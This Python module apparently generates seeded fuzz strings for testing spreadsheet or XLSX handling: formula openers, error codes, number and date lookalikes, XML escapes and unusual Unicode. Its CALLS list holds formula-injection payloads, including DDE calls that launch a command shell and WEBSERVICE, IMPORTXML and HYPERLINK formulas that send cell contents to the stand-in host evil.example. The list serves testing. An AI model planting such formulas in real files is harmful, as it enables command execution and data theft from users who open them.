"""Texts that want to be something else than text, as many as wanted, from a seed."""

import random

OPENERS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "＝", "＋", "＠", "=-", "{=", "%",
    "|=", ";=",
)  # fmt: skip
CALLS = (
    "1+1", "SUM(A1)", 'HYPERLINK("http://evil.example","click")', "cmd|' /C calc'!A0", "A1",
    "NOW()", 'WEBSERVICE("http://evil.example/"&A1)', 'DDE("cmd";"/C calc";"!A0")', "1/0",
    "TRUE", 'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', "[1]Sheet1!A1",
    "_xlfn.STDEV.S(A1)",
)  # fmt: skip
ERRORS = (
    "#N/A", "#REF!", "#DIV/0!", "#NAME?", "#VALUE!", "#NUM!", "#NULL!", "#GETTING_DATA",
    "#SPILL!",
)  # fmt: skip
NUMBERS = (
    "0012", "1E5", "1e-7", "007", "110101199003074518", "4111111111111111",
    "12345678901234567890", "1,000", "1.000,5", "50%", "￥12", "$12.00", "(12)", "-0", "+1",
    "1/2", "3-4", "0x1F", "1_000", "NaN", "INF", "∞", "१२३", "１２", "1 000", ".5", "5.",
    "１e５", "TRUE", "FALSE", "true", "WAHR", "真",
)  # fmt: skip
DATES = (
    "2026-10-13", "10/13/2026", "13.10.2026", "1-2", "MAR1", "SEPT2", "12:30",
    "2026年10月13日", "1900-01-00", "29/02/1900", "2026-10-13T12:00:00Z", "Oct 13", "0:00",
)  # fmt: skip
ESCAPES = (
    "_x000D_", "_x0041_", "_x005F_x000D_", "_xFFFF_", "_x0000_", "_X0041_", "_x41_",
    "__x0041__", "_x005f_", "_x_",
)  # fmt: skip
MARKUP = (
    "<b>&amp;</b>", "]]>", "<![CDATA[x]]>", "&#0;", "&lt;", "<!--", "-->", '"\'', "<?xml?>",
    "</t></is></c>", "&P &N &D", "{curly} %s", '<row r="1">', "\\n", "%n%n%s",
)  # fmt: skip
ODD = (
    *map(chr, range(32)),
    "\x7f", "\x85", "\xa0", "\xad", "\u200b", "\u200d", "\u2028", "\u2029", "\u202e", "\u2066",
    "\ufeff", "�", "\ufffe", "\uffff", "\ufdd0", "\U0001fffe", "\U0001ffff", "\U0010ffff",
    "\ue000", "\ud800", "\udc00", "\udfff", "\ud83d", "\u3000", "́", "ำ", "😀",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "🇨🇳", "中文，标点", "مرحبا", "שלום", "é",
    "ﷺ", "𝕏", "\U000e0041", "\r", "\r\n", "\n", "\t", "|", " ",
)  # fmt: skip


def texts(count: int, seed: int) -> list[str]:
    """No two alike."""
    dice, found = random.Random(seed), dict[str, None]()
    kinds = (_formula, _lookalike, _mixed, _random, _long)
    while len(found) < count:
        (kind,) = dice.choices(kinds, (30, 25, 25, 19.7, 0.3))
        text = kind(dice)
        found[f"{text} {len(found)}" if text in found else text] = None
    return list(found)


def _formula(dice: random.Random) -> str:
    return dice.choice(OPENERS) + dice.choice(CALLS)


def _lookalike(dice: random.Random) -> str:
    text = dice.choice(dice.choice((ERRORS, NUMBERS, DATES, ESCAPES, MARKUP)))
    return dice.choice(("{}", "{}", " {}", "{} ", "'{}")).replace("{}", text)


def _mixed(dice: random.Random) -> str:
    pools = (ODD, ODD, ESCAPES, MARKUP, CALLS, NUMBERS)
    return "".join(dice.choice(dice.choice(pools)) for _ in range(dice.randrange(1, 9)))


def _random(dice: random.Random) -> str:
    most = dice.choice((0x80, 0x300, 0x3000, 0x10000, 0x110000))
    return "".join(chr(dice.randrange(most)) for _ in range(dice.randrange(40)))


def _long(dice: random.Random) -> str:
    return dice.choice(("x", "_x0041_", "😀", "\x07", "&", "中", " ")) * dice.randrange(
        10_000, 70_000
    )
